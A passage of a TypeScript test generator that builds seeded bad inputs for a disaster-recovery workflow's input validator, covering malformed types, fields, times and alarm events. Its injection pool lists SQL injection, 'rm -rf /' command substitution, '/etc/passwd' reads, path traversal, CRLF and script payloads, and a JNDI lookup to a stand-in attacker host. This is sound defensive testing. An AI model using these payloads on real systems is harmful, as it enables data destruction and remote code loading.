// The bad-input corpus: for every scenario and every way it starts (manual JSON, a schedule's raw
// EventBridge event, a CloudWatch alarm state change, the same alarm forwarded from the primary region),
// inputs that the first state must refuse, each with the field its refusal must name.
//
// Each input is a VALID input of that start shape with one thing made wrong (a field of the wrong type,
// an unknown field, a missing one, an empty, huge, injected, oddly encoded or implausible value...), so
// the refusal can only be about that field. A shape the scenario never starts from (a schedule's event to
// cluster-failover) is bad by itself: its refusal may name the shape's key instead.
//
// Deterministic: a seeded generator (mulberry32) picks fields, values and positions, so a failure is
// reproduced by its seed and label. Only JSON values: what Step Functions can hand the first state.
import { formatPath } from '../../shared/errors.js';
import type { DeploymentConfig } from '../../shared/config.js';
import { SCENARIO_NAMES as SCENARIOS, type ScenarioName as Scenario } from '../../shared/scenarios.js';

export const START_SHAPES = ['manual', 'scheduled', 'alarm', 'forwarded-alarm'] as const;
export type StartShape = (typeof START_SHAPES)[number];

export const BAD_KINDS = [
  'wrong-type',
  'unknown-field',
  'missing-field',
  'empty',
  'huge',
  'injection',
  'odd-unicode',
  'bad-time',
  'conflicting-fields',
  'wrong-alarm-name',
  'alarm-not-in-alarm',
  'stale-alarm',
  'wrong-shape-dry-run',
] as const;
export type BadKind = (typeof BAD_KINDS)[number];

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type Path = (string | number)[];

export interface BadInput {
  scenario: Scenario;
  shape: StartShape;
  kind: BadKind;
  /** What was made wrong, for test names and failure messages (values shortened). */
  label: string;
  input: Json;
  /** Paths as the refusal writes them (`detail.state.timestamp`, `databases[0]`); it must name one. */
  fields: string[];
}

export interface CorpusOptions {
  seed: number;
  /** The run starts at or after this: times in the corpus are placed relative to it. */
  now: Date;
  config: DeploymentConfig;
  /** Randomly generated variants per scenario, shape and kind, beside the fixed catalogue. */
  randomPerKind: number;
}

// ---------------------------------------------------------------------------------------------------
// A small seeded generator.

export interface Random {
  next(): number;
  int(below: number): number;
  pick<T>(items: readonly T[]): T;
}

export function seededRandom(seed: number): Random {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (below: number) => Math.floor(next() * below);
  return { next, int, pick: (items) => items[int(items.length)] as (typeof items)[number] };
}

// ---------------------------------------------------------------------------------------------------
// Value pools.

const MEGABYTE = 'x'.repeat(1 << 20);

const INJECTIONS = [
  "'; DROP TABLE users; --",
  "frontier-prod' OR '1'='1",
  '$(rm -rf /)',
  '`rm -rf /`',
  'frontier-prod; rm -rf /',
  '| cat /etc/passwd',
  '../../etc/passwd',
  '..\\..\\windows\\system32',
  'frontier-prod\u0000',
  '\u0000',
  'frontier-prod\r\nX-Injected: 1',
  '\r\n',
  '<script>alert(1)</script>',
  '${jndi:ldap://attacker/a}',
  '{{7*7}}',
  '%00%0d%0a',
];

/** Characters that make a name look right and be another: RTL override, zero-width, BOM, NBSP... */
const ODD_CHARACTERS = [
  '\u202e', // right-to-left override
  '\u202d',
  '\u2066',
  '\u200b', // zero-width space
  '\u200d', // zero-width joiner
  '\u2060',
  '\ufeff',
  '\u00a0',
  '\u2028',
  '\u0301', // combining acute accent
  '\u0336\u0336',
  '🔥',
  '👩‍💻',
  '\ud800', // lone high surrogate
  '\udc00', // lone low surrogate
  'ｆ', // fullwidth
  'Ω',
  'е', // Cyrillic e, looks Latin
];

const ODD_STRINGS = ['\u202eesab-atad', '\u200b', '🔥🔥🔥', 'e\u0301\u0302\u0303\u0304', '\ud800\ud800', '\udfff', 'ｆｒｏｎｔｉｅｒ', '\u0000\u0000'];

const WRONG_TYPES: Record<FieldType, Json[]> = {
  boolean: ['true', 'false', 1, 0, null, [], {}, 'yes', [true]],
  string: [1, 0, true, false, null, [], {}, ['frontier-prod'], { value: 'x' }],
  int: ['2', 1.5, -1, 0, true, null, [], {}, [2], 2 ** 53, 1e308],
  array: ['frontier-prod', 1, true, null, {}, { 0: 'frontier-prod' }],
  object: ['detail', 1, true, [], [{}]],
};

type FieldType = 'boolean' | 'string' | 'int' | 'array' | 'object';

/** A field of a start shape: its path, type, a valid value, and how to make it wrong. */
interface Field {
  path: Path;
  type: FieldType;
  /** Identifiers (names, enums, ids) are refused when disguised; free text (reason) is not. */
  role: 'identifier' | 'free-text' | 'time' | 'format-time' | 'flag' | 'array-of-identifiers' | 'number' | 'container';
  /** A valid value, disguised for the injection and unicode kinds. */
  valid?: string;
  /** Longest valid string (a longer one is bad). */
  maxLength?: number;
  required?: boolean;
  /** An array that must hold at least one item. */
  nonEmpty?: boolean;
}

// ---------------------------------------------------------------------------------------------------

const field = (path: Path, type: FieldType, role: Field['role'], extra: Partial<Field> = {}): Field => ({ path, type, role, ...extra });

function manualFields(scenario: Scenario, config: DeploymentConfig): Field[] {
  const common = [field(['dryRun'], 'boolean', 'flag'), field(['reason'], 'string', 'free-text', { maxLength: 500 }), field(['trigger'], 'string', 'identifier', { valid: 'manual' })];
  const database = config.databases[0]!.name;
  switch (scenario) {
    case 'backup-verification':
    case 'restore-test':
      return [...common, field(['databases'], 'array', 'array-of-identifiers', { valid: database, nonEmpty: true })];
    case 'cluster-failover':
      return [...common, field(['force'], 'boolean', 'flag')];
    case 'emergency-rollback':
      return [
        ...common,
        field(['cluster'], 'string', 'identifier', { valid: 'backup' }),
        field(['namespace'], 'string', 'identifier', { valid: config.kubernetes!.namespace, maxLength: 63 }),
        field(['deployment'], 'string', 'identifier', { valid: config.kubernetes!.apiDeployment, maxLength: 63 }),
        field(['toRevision'], 'int', 'number'),
      ];
    case 'database-recovery':
      return [
        ...common,
        field(['database'], 'string', 'identifier', { valid: database, maxLength: 63 }),
        field(['incidentTime'], 'string', 'time'),
        field(['snapshot'], 'string', 'identifier', { valid: `${database}-20261125-0800`, maxLength: 255 }),
        field(['restoreTime'], 'string', 'time'),
      ];
    case 'region-failover':
      return [...common, field(['skipConfirmation'], 'boolean', 'flag')];
    case 'region-failback':
      return [...common, field(['failoverExecution'], 'string', 'identifier', { valid: 'region-failover-20261130-1204', maxLength: 80, required: true })];
    case 'security-incident':
      return [
        ...common,
        field(['incidentId'], 'string', 'identifier', { valid: 'SEC-2026-041', maxLength: 64, required: true }),
        field(['blockIps'], 'array', 'array-of-identifiers', { valid: '203.0.113.7' }),
        field(['patchedImage'], 'string', 'identifier', { valid: 'frontier/api:security-patch', maxLength: 512 }),
        field(['secrets'], 'array', 'array-of-identifiers', { valid: config.databases.find((db) => db.rotation)?.credentialsSecret ?? config.databases[0]!.credentialsSecret }),
      ];
  }
}

function envelopeFields(source: string, detailType: string): Field[] {
  return [
    field(['version'], 'string', 'identifier', { valid: '0' }),
    field(['id'], 'string', 'identifier', { valid: '53dc4d37-cffa-4f76-80c9-8b7d4a4d2eaa', maxLength: 128 }),
    field(['account'], 'string', 'identifier', { valid: '123456789012' }),
    field(['time'], 'string', 'time'),
    field(['region'], 'string', 'identifier', { valid: 'us-east-1' }),
    field(['resources'], 'array', 'array-of-identifiers'),
    field(['source'], 'string', 'identifier', { valid: source, required: true }),
    field(['detail-type'], 'string', 'identifier', { valid: detailType, required: true }),
    field(['dryRun'], 'boolean', 'flag'),
    field(['reason'], 'string', 'free-text', { maxLength: 500 }),
  ];
}

const SCHEDULED = { source: 'aws.events', detailType: 'Scheduled Event' };
const ALARM = { source: 'aws.cloudwatch', detailType: 'CloudWatch Alarm State Change' };

function shapeFields(shape: StartShape, scenario: Scenario, config: DeploymentConfig): Field[] {
  if (shape === 'manual') return manualFields(scenario, config);
  if (shape === 'scheduled') return [...envelopeFields(SCHEDULED.source, SCHEDULED.detailType), field(['detail'], 'object', 'container')];
  return [
    ...envelopeFields(ALARM.source, ALARM.detailType),
    field(['detail'], 'object', 'container', { required: true }),
    field(['detail', 'alarmName'], 'string', 'identifier', { valid: alarmFor(scenario, config), maxLength: 255, required: true }),
    field(['detail', 'state'], 'object', 'container', { required: true }),
    field(['detail', 'state', 'value'], 'string', 'identifier', { valid: 'ALARM', required: true }),
    field(['detail', 'state', 'timestamp'], 'string', 'time', { required: true }),
    field(['detail', 'state', 'reason'], 'string', 'free-text', { maxLength: 1023 }),
    field(['detail', 'previousState', 'value'], 'string', 'identifier', { valid: 'OK', required: true }),
    // The previous state may be months old: only its form is checked.
    field(['detail', 'previousState', 'timestamp'], 'string', 'format-time', { required: true }),
  ];
}

/** The alarm that starts the scenario, or (for one no alarm starts) the database alarm. */
function alarmFor(scenario: Scenario, config: DeploymentConfig): string {
  if (scenario === 'cluster-failover') return config.alarms.clusterUnreachable;
  if (scenario === 'region-failover') return config.regionFailover?.detection.alarmName ?? 'RegionFailure';
  return config.databases.find((d) => d.recovery?.alarmName)?.recovery?.alarmName ?? 'DatabaseDown';
}

/** Whether the scenario can start from the shape; when not, the key whose refusal that is. */
function shapeRefusal(scenario: Scenario, shape: StartShape): string | null {
  if (shape === 'manual') return null;
  if (shape === 'scheduled') return ['backup-verification', 'restore-test'].includes(scenario) ? null : 'detail-type';
  return ['cluster-failover', 'database-recovery', 'region-failover'].includes(scenario) ? null : 'source';
}

// ---------------------------------------------------------------------------------------------------
// Valid inputs of each shape, from which every bad one is made.

const iso = (ms: number) => new Date(ms).toISOString();
const MINUTE = 60_000;
const DAY = 86_400_000;

function validBases(scenario: Scenario, shape: StartShape, now: number, config: DeploymentConfig): Record<string, Json>[] {
  const database = config.databases[0]!.name;
  if (shape === 'manual') {
    const common: Record<string, Json>[] = [{}, { dryRun: true }, { reason: 'bad-input corpus', trigger: 'manual' }];
    switch (scenario) {
      case 'backup-verification':
      case 'restore-test':
        return [...common, { databases: [database], dryRun: true }];
      case 'cluster-failover':
        return [...common, { force: true, dryRun: true }];
      case 'emergency-rollback':
        return [...common, { cluster: 'backup', namespace: config.kubernetes!.namespace, deployment: config.kubernetes!.apiDeployment, toRevision: 2 }];
      case 'database-recovery':
        return [
          ...common,
          { database, incidentTime: iso(now - 10 * MINUTE), restoreTime: iso(now - 20 * MINUTE), dryRun: true },
          { snapshot: `${database}-20261125-0800`, incidentTime: `${iso(now - 2 * DAY).slice(0, 19)}+00:00` },
        ];
      case 'security-incident': {
        // The incident id is required: every valid input names one. A secret to rotate needs a database with rotation.
        const rotated = config.databases.find((db) => db.rotation)?.credentialsSecret;
        return [
          { incidentId: 'SEC-2026-041' },
          { incidentId: 'SEC-2026-041', dryRun: true, blockIps: ['203.0.113.7', '2001:db8::/32', '198.51.100.0/24'] },
          { incidentId: 'SEC-2026-041', reason: 'bad-input corpus', trigger: 'manual', patchedImage: 'frontier/api:security-patch', ...(rotated ? { secrets: [rotated] } : {}) },
        ];
      }
      case 'region-failback': {
        // The failover run is required: every valid input names one.
        const failoverExecution = 'region-failover-20261130-1204';
        return [
          { failoverExecution },
          { failoverExecution: `arn:aws:states:${config.recoveryRegion}:123456789012:execution:frontier-dr-prod-region-failover:${failoverExecution}`, dryRun: true },
          { failoverExecution, reason: 'bad-input corpus', trigger: 'manual' },
        ];
      }
    }
  }
  const region = shape === 'forwarded-alarm' ? config.primaryRegion : config.recoveryRegion;
  if (shape === 'scheduled') {
    return [
      {
        version: '0',
        id: '53dc4d37-cffa-4f76-80c9-8b7d4a4d2eaa',
        'detail-type': SCHEDULED.detailType,
        source: SCHEDULED.source,
        account: '123456789012',
        time: `${iso(now - MINUTE).slice(0, 19)}Z`,
        region,
        resources: [`arn:aws:events:${region}:123456789012:rule/frontier-dr-${scenario}`],
        detail: {},
      },
      { source: SCHEDULED.source, 'detail-type': SCHEDULED.detailType, dryRun: true, reason: 'replayed schedule' },
    ];
  }
  const alarmName = alarmFor(scenario, config);
  const stamp = iso(now - 2 * MINUTE);
  return [
    {
      version: '0',
      id: 'c4c1c1c9-6542-e61b-6ef0-8c4d36933a92',
      'detail-type': ALARM.detailType,
      source: ALARM.source,
      account: '123456789012',
      time: `${stamp.slice(0, 19)}Z`,
      region,
      resources: [`arn:aws:cloudwatch:${region}:123456789012:alarm:${alarmName}`],
      detail: {
        alarmName,
        // CloudWatch's own zone form.
        state: { value: 'ALARM', reason: 'Threshold Crossed', timestamp: stamp.replace('Z', '+0000') },
        previousState: { value: 'OK', reason: 'Threshold Crossed', timestamp: iso(now - 40 * DAY).replace('Z', '+0000') },
        configuration: { description: 'bad-input corpus', metrics: [{ id: 'm1', metricStat: { metric: { namespace: 'AWS/Route53', name: 'HealthCheckStatus', dimensions: { HealthCheckId: 'abc' } }, period: 60, stat: 'Minimum' }, returnData: true }] },
      },
    },
    { source: ALARM.source, 'detail-type': ALARM.detailType, dryRun: true, detail: { alarmName, state: { value: 'ALARM', timestamp: stamp } } },
  ];
}

// ---------------------------------------------------------------------------------------------------
// Mutations.

function setAt(input: Json, path: Path, value: Json | undefined): Json {
  const copy = structuredClone(input) as Record<string | number, Json>;
  let current = copy as Record<string | number, Json>;
  path.slice(0, -1).forEach((part, i) => {
    const next = current[part];
    if (next === null || typeof next !== 'object') current[part] = typeof path[i + 1] === 'number' ? [] : {};
    current = current[part] as Record<string | number, Json>;
  });
  const last = path[path.length - 1] as string | number;
  if (value === undefined) delete current[last];
  else current[last] = value;
  return copy;
}

/** A key set from parsed JSON text, as Step Functions would deliver it: `__proto__` is then an own key. */
function withOwnKey(input: Json, parent: Path, key: string, value: Json): Json {
  const copy = structuredClone(input) as Record<string, Json>;
  let current: Record<string, Json> = copy;
  for (const part of parent) {
    if (current[part] === null || typeof current[part] !== 'object') current[part] = {};
    current = current[part] as Record<string, Json>;
  }
  // An own property, as JSON.parse makes it (assigning `__proto__` would set the prototype instead).
  Object.defineProperty(current, key, { value, enumerable: true, configurable: true, writable: true });
  return copy;
}

function deepValue(depth: number): Json {
  let value: Json = 'bottom';
  for (let i = 0; i < depth; i++) value = { a: value };
  return value;
}

/** A short text for a label: long strings, long arrays and deep nesting are described, not printed. */
const shortened = (value: unknown): string => {
  if (typeof value === 'string' && value.length > 60) return `${JSON.stringify(value.slice(0, 40))}...(${value.length} chars)`;
  if (Array.isArray(value) && value.length > 20) return `[${value.length} items]`;
  let depth = 0;
  for (let v = value; v !== null && typeof v === 'object' && depth <= 20; depth++) v = Object.values(v)[0];
  if (depth > 20) return '(nested more than 20 deep)';
  const text = JSON.stringify(value) ?? String(value);
  return text.length > 60 ? `${text.slice(0, 57)}...(${text.length} chars)` : text;
};

/** `valid` with an odd character put in at a seeded position. */
function disguise(valid: string, random: Random): string {
  const at = random.int(valid.length + 1);
  return `${valid.slice(0, at)}${random.pick(ODD_CHARACTERS)}${valid.slice(at)}`;
}

/** A time that is never valid: malformed, not a calendar time, without a zone, or implausible. */
function badTimes(now: number, plausibility: boolean): Json[] {
  const year = new Date(now).getUTCFullYear();
  const malformed: Json[] = [
    'yesterday',
    'now',
    '2026-11-25',
    '12:00:00Z',
    '2026-11-25 12:00:00Z',
    '2026/11/25T12:00:00Z',
    '2026-11-25T12:00:00ZZ',
    '2026-W48-3T12:00:00Z',
    '2026-02-31T10:00:00Z',
    '2026-02-29T10:00:00Z',
    '2026-04-31T10:00:00Z',
    '2026-13-01T00:00:00Z',
    '2026-00-10T00:00:00Z',
    '2026-11-25T24:00:00Z',
    '2026-11-25T12:60:00Z',
    '2026-11-25T23:59:60Z',
    '2026-11-25T12:00:00+25:00',
    '2026-11-25T12:00:00+05:99',
    '+275760-09-13T00:00:00Z',
    '-000001-01-01T00:00:00Z',
    '２０２６-11-25T12:00:00Z',
    '2026-11-25T12:00:00\u200bZ',
    // No zone: whose clock would it be?
    iso(now - 5 * MINUTE).slice(0, 19),
    iso(now - 5 * MINUTE).slice(0, 23),
    // Numbers: epoch milliseconds and seconds, and as text.
    now - 5 * MINUTE,
    Math.floor((now - 5 * MINUTE) / 1000),
    String(now - 5 * MINUTE),
  ];
  if (!plausibility) return malformed;
  return [
    ...malformed,
    '0001-01-01T00:00:00Z',
    '0000-01-01T00:00:00Z',
    '9999-12-31T23:59:59Z',
    `${year + 1}-01-01T00:00:00Z`,
    iso(now + DAY),
    iso(now + 10 * MINUTE),
    iso(now - 36 * DAY),
    '1970-01-01T00:00:00Z',
    '1999-12-31T23:59:59+01:00',
  ];
}

/** A random never-valid time: one seeded defect in an otherwise well-formed time. */
function randomBadTime(now: number, random: Random, plausibility: boolean): Json {
  const d = new Date(now - (random.int(30) + 1) * MINUTE);
  const pad = (n: number, width = 2) => String(n).padStart(width, '0');
  const parts = { y: pad(d.getUTCFullYear(), 4), mo: pad(d.getUTCMonth() + 1), day: pad(d.getUTCDate()), h: pad(d.getUTCHours()), mi: pad(d.getUTCMinutes()), s: pad(d.getUTCSeconds()), zone: 'Z' };
  const defects = ['month', 'day', 'hour', 'minute', 'second', 'zone', 'offset', 'february', ...(plausibility ? ['past', 'future'] : [])];
  switch (random.pick(defects)) {
    case 'month':
      parts.mo = pad(13 + random.int(87));
      break;
    case 'day':
      parts.day = pad(32 + random.int(68));
      break;
    case 'hour':
      parts.h = pad(24 + random.int(76));
      break;
    case 'minute':
      parts.mi = pad(60 + random.int(40));
      break;
    case 'second':
      parts.s = pad(60 + random.int(40));
      break;
    case 'zone':
      parts.zone = '';
      break;
    case 'offset':
      parts.zone = `${random.pick(['+', '-'])}${pad(24 + random.int(76))}:00`;
      break;
    case 'february':
      parts.mo = '02';
      parts.day = pad(30 + random.int(2));
      break;
    case 'past':
      parts.y = pad(d.getUTCFullYear() - 1 - random.int(d.getUTCFullYear() - 1), 4);
      break;
    case 'future':
      parts.y = pad(d.getUTCFullYear() + 1 + random.int(9999 - d.getUTCFullYear() - 1), 4);
      break;
  }
  return `${parts.y}-${parts.mo}-${parts.day}T${parts.h}:${parts.mi}:${parts.s}${parts.zone}`;
}

/** A misspelling of `name` that is none of `taken`. */
function typo(name: string, random: Random, taken: readonly string[]): string {
  for (let attempt = 0; attempt < 20; attempt++) {
    const at = random.int(name.length);
    const edits = [
      () => name.slice(0, at) + name.slice(at + 1),
      () => name.slice(0, at) + name[at + 1] + name[at] + name.slice(at + 2),
      () => name.toLowerCase(),
      () => name[0]!.toUpperCase() + name.slice(1),
      () => name.replace(/([A-Z])/g, '_$1').toLowerCase(),
      () => `${name}s`,
      () => name.slice(0, at) + random.pick('abcdefghijklmnopqrstuvwxyz'.split('')) + name.slice(at),
    ];
    const candidate = random.pick(edits)();
    if (candidate && !taken.includes(candidate) && !candidate.includes('undefined')) return candidate;
  }
  return `${name}Typo`;
}

interface Mutation {
  kind: BadKind;
  label: string;
  apply: (base: Json) => Json;
  field: string;
}

function mutationsOf(scenario: Scenario, shape: StartShape, now: number, config: DeploymentConfig, random: Random, randomPerKind: number): Mutation[] {
  const fields = shapeFields(shape, scenario, config);
  const topKeys = [...new Set(fields.map((f) => String(f.path[0])))];
  const out: Mutation[] = [];
  const set = (kind: BadKind, path: Path, value: Json, note = '') =>
    out.push({ kind, label: `${formatPath(path)} = ${shortened(value)}${note}`, apply: (base) => setAt(base, path, value), field: formatPath(path) });
  // An item refused for what it names (not its form) is reported at the array: `databases: got [...]`.
  const setItem = (kind: BadKind, path: Path, value: Json) =>
    out.push({ kind, label: `${formatPath(path)} = ${shortened(value)}`, apply: (base) => setAt(base, path, value), field: formatPath(path.slice(0, -1)) });
  const remove = (kind: BadKind, path: Path) => out.push({ kind, label: `${formatPath(path)} removed`, apply: (base) => setAt(base, path, undefined), field: formatPath(path) });
  const addKey = (kind: BadKind, parent: Path, key: string, value: Json) =>
    out.push({ kind, label: `${formatPath([...parent, key])} added (${shortened(value)})`, apply: (base) => withOwnKey(base, parent, key, value), field: formatPath([...parent, key]) });
  const repeat = (times: number, make: () => void) => {
    for (let i = 0; i < times; i++) make();
  };
  const isEvent = shape !== 'manual';
  const isAlarm = shape === 'alarm' || shape === 'forwarded-alarm';
  const stringFields = fields.filter((f) => f.type === 'string');
  const identifiers = fields.filter((f) => f.role === 'identifier');

  // wrong-type: every field, every wrong type; the whole input not an object.
  for (const f of fields) for (const value of WRONG_TYPES[f.type]) if (!(f.type === 'int' && typeof value === 'number' && Number.isInteger(value) && value >= 1 && value <= Number.MAX_SAFE_INTEGER)) set('wrong-type', f.path, value);
  for (const root of ['{"dryRun": true}', 42, true, [], [{}], ['dryRun'], 'dryRun'] as Json[]) {
    out.push({ kind: 'wrong-type', label: `the whole input is ${shortened(root)}`, apply: () => root, field: '(root)' });
  }
  repeat(randomPerKind, () => {
    const f = random.pick(fields);
    set('wrong-type', f.path, random.pick(WRONG_TYPES[f.type]));
  });

  // unknown-field: misspelt and foreign keys at the top, and inside objects.
  const foreign = ['dryrun', 'DryRun', 'dry_run', 'dry-run', 'input', 'options', 'force', 'snapshot', 'database', 'databases', 'Detail', 'detailType', 'Source', 'execution', 'scenario', '__proto__', 'constructor', 'prototype', 'toString', ''];
  for (const key of foreign) if (!topKeys.includes(key)) addKey('unknown-field', [], key, key === '__proto__' ? { dryRun: true } : true);
  if (!isEvent) {
    // Manual inputs hold no objects: anything nested sits where a plain value belongs.
    for (const f of fields) set('unknown-field', f.path, { [String(f.path.at(-1))]: f.valid ?? true, extra: 1 });
    if (fields.some((f) => f.path[0] === 'databases')) set('unknown-field', ['databases', 0], { name: config.databases[0]!.name });
    // An event's body without its source and detail-type is a manual input with unknown keys.
    out.push({ kind: 'unknown-field', label: 'detail without source or detail-type', apply: (base) => setAt(base, ['detail'], { dryRun: true }), field: 'detail' });
  }
  if (shape === 'scheduled') {
    // EventBridge always sends {}: an option put here would be ignored.
    for (const key of ['dryRun', 'reason', 'force', 'databases', 'extra', 'DryRun']) addKey('unknown-field', ['detail'], key, true);
  }
  if (isAlarm) {
    // The detail stays open to fields AWS adds, but a run option there would be ignored.
    for (const key of ['dryRun', 'DryRun', 'dry_run', 'dry-run', 'reason', 'force', 'database', 'snapshot', 'restoreTime', 'incidentTime', 'toRevision', 'namespace', 'trigger']) {
      addKey('unknown-field', ['detail'], key, key.toLowerCase().includes('dry') ? true : 'x');
    }
  }
  repeat(randomPerKind, () => {
    const taken = [...topKeys, '__proto__'];
    addKey('unknown-field', [], typo(random.pick(topKeys), random, taken), random.pick([true, 1, 'x', null, {}] as Json[]));
  });

  // missing-field: every required field (a manual input has none: `{}` is valid).
  for (const f of fields) if (f.required) remove('missing-field', f.path);
  if (isEvent) {
    out.push({
      kind: 'missing-field',
      label: 'both source and detail-type removed (read as a manual input with unknown keys)',
      apply: (base) => setAt(setAt(setAt(base, ['source'], undefined), ['detail-type'], undefined), ['version'], '0'),
      field: 'version',
    });
  }
  if (isAlarm) {
    set('missing-field', ['detail', 'state'], { value: 'ALARM' });
    set('missing-field', ['detail', 'state'], { timestamp: iso(now - 2 * MINUTE) });
  }

  // empty: empty strings, arrays and objects where something is needed; empty text as the whole input.
  for (const f of fields) {
    if (f.role === 'identifier' || f.role === 'time' || f.role === 'format-time') set('empty', f.path, '');
    if (f.type === 'array' && f.nonEmpty) set('empty', f.path, []);
    if (f.role === 'array-of-identifiers') setItem('empty', [...f.path, 0], '');
    if (f.type === 'object' && f.required) set('empty', f.path, {});
    if (f.type === 'boolean') set('empty', f.path, '');
  }
  for (const root of ['', [], ' ', '{}'] as Json[]) out.push({ kind: 'empty', label: `the whole input is ${shortened(root)}`, apply: () => root, field: '(root)' });

  // huge: a megabyte string in every string field, long strings, 10,000 items, deep nesting, many keys.
  for (const f of stringFields) {
    set('huge', f.path, MEGABYTE, ' (1 MiB)');
    if (f.maxLength) set('huge', f.path, (f.valid ?? 'x').padEnd(f.maxLength + 1, 'x'), ` (${f.maxLength + 1} chars)`);
  }
  for (const f of fields.filter((g) => g.type === 'array')) {
    set('huge', f.path, Array.from({ length: 10_000 }, () => f.valid ?? `arn:aws:events:us-east-1:123456789012:rule/r`), ' (10,000 items)');
    set('huge', f.path, Array.from({ length: 10_000 }, (_, i) => i), ' (10,000 numbers)');
    set('huge', f.path, Array.from({ length: 1001 }, (_, i) => `frontier-${i}`), ' (1,001 items)');
  }
  for (const depth of [40, 1000, 3000, 10_000, 100_000]) {
    const container = isAlarm ? ['detail', 'configuration'] : isEvent ? ['detail'] : ['reason'];
    set('huge', container, deepValue(depth), ` (nested ${depth} deep)`);
    addKey('huge', [], 'nested', deepValue(depth));
  }
  out.push({
    kind: 'huge',
    label: '10,000 unknown keys',
    apply: (base) => ({ ...(base as Record<string, Json>), ...Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`extra${i}`, i])) }),
    field: 'extra0',
  });
  addKey('huge', [], 'k'.repeat(1 << 20), true);
  addKey('huge', [], 'k'.repeat(300), true);
  if (isAlarm) set('huge', ['detail', 'configuration', 'description'], MEGABYTE, ' (1 MiB)');

  // injection: shell, SQL, path and header characters in every identifier, and as keys.
  for (const f of identifiers) for (const value of INJECTIONS) set('injection', f.path, value);
  for (const f of fields.filter((g) => g.role === 'array-of-identifiers')) {
    for (const value of INJECTIONS) setItem('injection', [...f.path, 0], f.path[0] === 'resources' ? (/[\u0000\r\n]/.test(value) ? `arn:aws:events:us-east-1:123456789012:rule/${value}` : value.replace(/^arn:/, '')) : value);
  }
  for (const f of fields.filter((g) => g.role === 'time' || g.role === 'format-time')) for (const value of INJECTIONS.slice(0, 6)) set('injection', f.path, value);
  for (const key of ["'; DROP TABLE runs; --", '$(rm -rf /)', '../../etc/passwd', 'dryRun\u0000', 'dryRun\r\n', '<script>']) addKey('injection', [], key, true);
  repeat(randomPerKind, () => {
    const f = random.pick(identifiers);
    const injected = random.pick(INJECTIONS);
    const valid = f.valid ?? '';
    const at = random.int(valid.length + 1);
    set('injection', f.path, `${valid.slice(0, at)}${injected}${valid.slice(at)}`);
  });

  // odd-unicode: names that look right, odd strings, odd keys.
  for (const f of identifiers) {
    for (const odd of ODD_STRINGS) set('odd-unicode', f.path, odd);
    if (f.valid) for (const char of ODD_CHARACTERS) set('odd-unicode', f.path, `${f.valid}${char}`);
  }
  for (const f of fields.filter((g) => g.role === 'array-of-identifiers')) {
    for (const odd of ODD_STRINGS) setItem('odd-unicode', [...f.path, 0], f.path[0] === 'resources' ? `arn:aws:events:us-east-1:123456789012:rule/\u0000${odd}` : odd);
  }
  for (const key of ['dry\u200bRun', 'dryRun\u202e', '\ud800', '🔥', 'dryRu\u0301n', 'ｄｒｙＲｕｎ']) addKey('odd-unicode', [], key, true);
  repeat(randomPerKind, () => {
    const f = random.pick(identifiers.filter((g) => g.valid));
    set('odd-unicode', f.path, disguise(f.valid!, random));
  });

  // bad-time: malformed, not on the calendar, no zone, numbers; extreme and implausible where checked.
  for (const f of fields.filter((g) => g.role === 'time' || g.role === 'format-time')) {
    for (const value of badTimes(now, f.role === 'time')) set('bad-time', f.path, value);
  }
  const timeFields = fields.filter((g) => g.role === 'time' || g.role === 'format-time');
  if (timeFields.length > 0) {
    repeat(randomPerKind, () => {
      const f = random.pick(timeFields);
      set('bad-time', f.path, randomBadTime(now, random, f.role === 'time'));
    });
  }

  if (scenario === 'database-recovery' && shape === 'manual') {
    // A restore point at or after the incident, or two restore points.
    for (const after of [0, 1, 60]) {
      out.push({
        kind: 'conflicting-fields',
        label: `restoreTime ${after} min after incidentTime`,
        apply: (base) => setAt(setAt(setAt(base, ['snapshot'], undefined), ['incidentTime'], iso(now - 30 * MINUTE)), ['restoreTime'], iso(now - (30 - after) * MINUTE)),
        field: 'restoreTime',
      });
    }
    out.push({
      kind: 'conflicting-fields',
      label: 'snapshot and restoreTime both',
      apply: (base) => setAt(setAt(base, ['snapshot'], `${config.databases[0]!.name}-20261125-0800`), ['restoreTime'], iso(now - 20 * MINUTE)),
      field: 'snapshot',
    });
  }

  if (isAlarm) {
    // wrong-alarm-name
    const other = scenario === 'cluster-failover' ? alarmFor('database-recovery', config) : config.alarms.clusterUnreachable;
    const name = alarmFor(scenario, config);
    for (const wrong of [other, name.toLowerCase(), name.toUpperCase(), ` ${name}`, `${name} `, `${name}\u200b`, `${name}\u0000`, `arn:aws:cloudwatch:us-east-1:123456789012:alarm:${name}`, 'frontier-prod-cpu-high', `${name}-copy`]) {
      set('wrong-alarm-name', ['detail', 'alarmName'], wrong);
    }
    repeat(randomPerKind, () => set('wrong-alarm-name', ['detail', 'alarmName'], random.next() < 0.5 ? disguise(name, random) : typo(name, random, [name])));

    // alarm-not-in-alarm
    for (const value of ['OK', 'INSUFFICIENT_DATA', 'alarm', 'Alarm', 'ALARM ', 'FIRING', 'ALARMING', '']) set('alarm-not-in-alarm', ['detail', 'state', 'value'], value);
    out.push({
      kind: 'alarm-not-in-alarm',
      label: 'state and previousState swapped (back to OK)',
      apply: (base) => setAt(setAt(base, ['detail', 'state', 'value'], 'OK'), ['detail', 'previousState'], { value: 'ALARM', timestamp: iso(now - 10 * MINUTE) }),
      field: 'detail.state.value',
    });

    // stale-alarm: a real alarm time, but too old to be this incident.
    for (const minutes of [61, 90, 180, 24 * 60, 34 * 24 * 60]) {
      const stale = iso(now - minutes * MINUTE);
      set('stale-alarm', ['detail', 'state', 'timestamp'], stale, ` (${minutes} min old)`);
      set('stale-alarm', ['detail', 'state', 'timestamp'], stale.replace('Z', '+0000'), ` (${minutes} min old)`);
    }
    repeat(randomPerKind, () => set('stale-alarm', ['detail', 'state', 'timestamp'], iso(now - (61 + random.int(34 * 24 * 60)) * MINUTE)));
  }

  if (shape !== 'manual') {
    // wrong-shape-dry-run: an EventBridge-shaped input asking for a dry run, where the scenario cannot
    // start from that shape (or from that source at all).
    const refusedBy = shapeRefusal(scenario, shape);
    if (refusedBy) {
      out.push({ kind: 'wrong-shape-dry-run', label: 'this shape with dryRun: true', apply: (base) => setAt(base, ['dryRun'], true), field: refusedBy });
